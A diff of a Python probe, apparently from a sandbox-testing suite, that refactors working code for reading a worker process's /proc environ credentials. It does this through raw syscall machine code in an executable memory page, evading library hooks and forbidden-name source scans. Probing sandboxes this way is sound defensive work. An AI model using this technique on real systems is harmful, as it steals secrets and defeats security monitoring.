@@ -1,7 +1,7 @@
 # SPDX-License-Identifier: MIT
 """Goal:  the worker's credentials, past any preloaded library, from Python.
-Means: eight bytes of machine code in a page that may be executed: the number of open(2), the syscall
-       instruction, return. A scan of the student's source for forbidden names finds none of them.
+Means: eight bytes of machine code in a page that may be executed: the number of open(2), the
+       syscall instruction, return. A scan of the source for forbidden names finds none of them.
 """
 
 import ctypes
@@ -10,6 +10,7 @@ import os
 
 from attack import DONE, attempting, denied, loot
 
+RWX = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
 OPEN = b"\xb8\x02\x00\x00\x00\x0f\x05\xc3"  # mov eax, 2; syscall; ret
 
 
@@ -17,10 +18,11 @@ def run(brief):
     path = f"/proc/{brief.worker}/environ".encode()
     attempting()
     try:
-        page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+        page = mmap.mmap(-1, mmap.PAGESIZE, prot=RWX)
         page.write(OPEN)
         code = ctypes.addressof(ctypes.c_char.from_buffer(page))
-        fd = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_char_p, ctypes.c_long)(code)(path, os.O_RDONLY)
+        bare_open = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_char_p, ctypes.c_long)(code)
+        fd = bare_open(path, os.O_RDONLY)
         if fd < 0:
             return denied("the syscall instruction", os.strerror(-fd))
         loot(os.read(fd, 65536))
